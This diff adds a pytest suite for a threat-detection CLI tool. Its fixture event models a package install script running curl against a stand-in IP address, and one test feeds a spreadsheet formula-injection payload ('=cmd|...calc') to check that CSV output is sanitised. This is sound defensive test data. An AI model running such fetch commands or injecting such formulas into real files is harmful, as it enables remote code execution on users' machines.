@@ -1,0 +1,193 @@
+"""The program as a person runs it: real processes, exit statuses, what goes to stdout and what to stderr."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shlex
+import subprocess
+import sys
+from pathlib import Path
+from xml.etree import ElementTree as ET
+
+import pytest
+from click.testing import CliRunner
+
+from contraband.cli import COMMANDS, cli
+
+EVENT = {
+    "@timestamp": "2026-01-01T00:00:00Z",
+    "event.category": "process",
+    "event.type": "start",
+    "host.os.type": "linux",
+    "host.name": "web-1",
+    "process.name": "curl",
+    "process.args": ["curl", "http://198.51.100.7/x"],
+    "process.command_line": "curl http://198.51.100.7/x",
+    "process.parent.name": "dash",
+    "process.parent.args": ["/bin/sh", "/var/lib/dpkg/info/x.postinst", "configure"],
+}
+
+
+def contraband(*arguments: str | Path, stdin: bytes = b"") -> subprocess.CompletedProcess[bytes]:
+    command = [sys.executable, "-c", "from contraband.cli import main; main()", *map(str, arguments)]
+    return subprocess.run(command, input=stdin, capture_output=True, timeout=120, check=False, env={**os.environ, "CI": "true"})
+
+
+@pytest.fixture
+def telemetry(tmp_path: Path) -> Path:
+    path = tmp_path / "events.ndjson"
+    path.write_text(json.dumps(EVENT) + "\n", encoding="utf-8")
+    return path
+
+
+def test_version() -> None:
+    ran = contraband("--version")
+    assert ran.returncode == 0
+    assert ran.stdout.startswith(b"contraband")
+
+
+def test_scan_in_a_pipe_writes_one_alert_a_line(telemetry: Path) -> None:
+    ran = contraband("scan", telemetry)
+    assert ran.returncode == 0, ran.stderr
+    alerts = [json.loads(line) for line in ran.stdout.splitlines()]
+    assert alerts
+    for alert in alerts:
+        assert alert["kibana.alert.original_time"] == EVENT["@timestamp"]
+        assert alert["contraband.origin.record"] == 1
+    assert {"medium", "high"} & {alert["kibana.alert.severity"] for alert in alerts}
+    assert b"events" in ran.stderr
+
+
+def test_alerts_are_the_same_in_another_folder_and_with_any_number_of_threads(telemetry: Path, tmp_path: Path) -> None:
+    other = tmp_path / "elsewhere"
+    other.mkdir()
+    (other / "copy.ndjson").write_bytes(telemetry.read_bytes())
+    runs = [contraband("scan", telemetry), contraband("scan", other), contraband("scan", telemetry, "--threads", "2")]
+    uuids = [[json.loads(line)["kibana.alert.uuid"] for line in ran.stdout.splitlines()] for ran in runs]
+    assert uuids[0] == uuids[1] == uuids[2] != []
+    assert runs[0].stdout == runs[2].stdout
+
+
+@pytest.mark.parametrize("form", ["table", "csv", "sarif", "timesketch"])
+def test_every_format_names_the_alert(telemetry: Path, form: str) -> None:
+    ran = contraband("scan", telemetry, "--format", form)
+    assert ran.returncode == 0, ran.stderr
+    assert b"Download or Network Tool Started by a Package Script" in ran.stdout
+
+
+def test_sarif_points_at_the_file_and_line(telemetry: Path) -> None:
+    document = json.loads(contraband("scan", telemetry, "--format", "sarif").stdout)
+    assert document["version"] == "2.1.0"
+    location = document["runs"][0]["results"][0]["locations"][0]["physicalLocation"]
+    assert location["artifactLocation"]["uri"].endswith("events.ndjson")
+    assert location["region"]["startLine"] == 1
+
+
+def test_csv_holds_no_formula(tmp_path: Path) -> None:
+    path = tmp_path / "events.ndjson"
+    path.write_text(json.dumps({**EVENT, "process.command_line": "=cmd|' /C calc'!A0 curl"}) + "\n", encoding="utf-8")
+    ran = contraband("scan", path, "--format", "csv")
+    assert b"=cmd" in ran.stdout
+    assert not re.search(rb'(^|,)"?=cmd', ran.stdout, re.MULTILINE)
+
+
+@pytest.mark.parametrize(
+    ("arguments", "status"),
+    [
+        (["--fail-on", "medium"], 1),
+        (["--fail-on", "critical"], 0),
+        (["--from", "2027-01-01T00:00:00Z"], 0),
+        (["--rules", "no-such-rule"], 2),
+        (["--no-such-option"], 2),
+    ],
+)
+def test_exit_status_of_scan(telemetry: Path, arguments: list[str], status: int) -> None:
+    assert contraband("scan", telemetry, *arguments).returncode == status
+
+
+def test_limits_leave_events_out(telemetry: Path) -> None:
+    assert contraband("scan", telemetry, "--from", "2027-01-01T00:00:00Z").stdout == b""
+    assert contraband("scan", telemetry, "--host", "other").stdout == b""
+    assert contraband("scan", telemetry, "--host", "web-1").stdout != b""
+
+
+def test_silence_is_not_success(tmp_path: Path) -> None:
+    empty = tmp_path / "empty.ndjson"
+    empty.touch()
+    assert contraband("scan", empty).returncode == 2
+    assert contraband("scan", empty, "--allow-empty").returncode == 0
+    assert contraband("scan", tmp_path / "missing").returncode == 2
+
+
+def test_bad_lines_are_named_and_the_rest_is_scanned(tmp_path: Path) -> None:
+    path = tmp_path / "events.ndjson"
+    path.write_text("{broken}\n" + json.dumps(EVENT) + "\n", encoding="utf-8")
+    ran = contraband("scan", path, "--strict")
+    assert ran.returncode == 1
+    assert ran.stdout != b""
+    assert b"events.ndjson" in ran.stderr
+    assert b"Traceback" not in ran.stderr
+
+
+def test_standard_input() -> None:
+    ran = contraband("scan", "-", stdin=json.dumps(EVENT).encode())
+    assert ran.returncode == 0, ran.stderr
+    assert ran.stdout != b""
+
+
+def test_a_closed_pipe_is_no_error(tmp_path: Path) -> None:
+    path = tmp_path / "events.ndjson"
+    path.write_text((json.dumps(EVENT) + "\n") * 5000, encoding="utf-8")
+    program = shlex.join([sys.executable, "-c", "from contraband.cli import main; main()"])
+    script = f"set -o pipefail; {program} scan {shlex.quote(str(path))} | head -1"
+    ran = subprocess.run(["bash", "-c", script], capture_output=True, timeout=120, check=False)
+    assert ran.returncode == 0, ran.stderr
+    assert len(ran.stdout.splitlines()) == 1
+    assert b"Traceback" not in ran.stderr
+
+
+def test_query_prints_events(telemetry: Path) -> None:
+    ran = contraband("query", 'process where process.name == "curl"', telemetry)
+    assert [json.loads(line)["process.name"] for line in ran.stdout.splitlines()] == ["curl"]
+
+
+def test_query_shows_where_the_error_is(telemetry: Path) -> None:
+    ran = contraband("query", "process where process.name === 1", telemetry)
+    assert ran.returncode == 2
+    assert b"^" in ran.stderr
+    assert b"Traceback" not in ran.stderr
+
+
+def test_one_rule_against_its_cases(tmp_path: Path) -> None:
+    report = tmp_path / "junit.xml"
+    ran = contraband("test", "linux-script-downloader", "--junit", report)
+    assert ran.returncode == 0, ran.stdout + ran.stderr
+    assert b"linux-script-downloader" in ran.stdout
+    suites = ET.parse(report).getroot()
+    assert [suite.get("name") for suite in suites] == ["Download or Network Tool Started by a Package Script"]
+    assert suites[0].get("failures") == "0"
+
+
+def test_a_case_that_is_not_met_fails(tmp_path: Path) -> None:
+    folder = tmp_path / "quiet-rule"
+    folder.mkdir()
+    (folder / "rule.toml").write_text(
+        '[rule]\nname = "Q"\nrule_id = "q"\nlanguage = "eql"\ntype = "eql"\nseverity = "high"\nrisk_score = 73\nquery = "any where false"\n',
+        encoding="utf-8",
+    )
+    (folder / "t.ndjson").write_text(json.dumps(EVENT) + "\n", encoding="utf-8")
+    (folder / "cases.toml").write_text(
+        '[[case]]\nname = "c"\ntelemetry = ["t.ndjson"]\nsource = "endpoint-linux"\ntruth = "attack"\nbasis = "modelled"\n', encoding="utf-8"
+    )
+    ran = contraband("test", folder)
+    assert ran.returncode == 1
+    assert b"quiet-rule: c: expected an alert, found 0" in ran.stdout
+
+
+@pytest.mark.parametrize("name", sorted(COMMANDS))
+def test_help_has_an_example(name: str) -> None:
+    result = CliRunner().invoke(cli, [name, "--help"])
+    assert result.exit_code == 0, result.output
+    assert "Example" in result.output
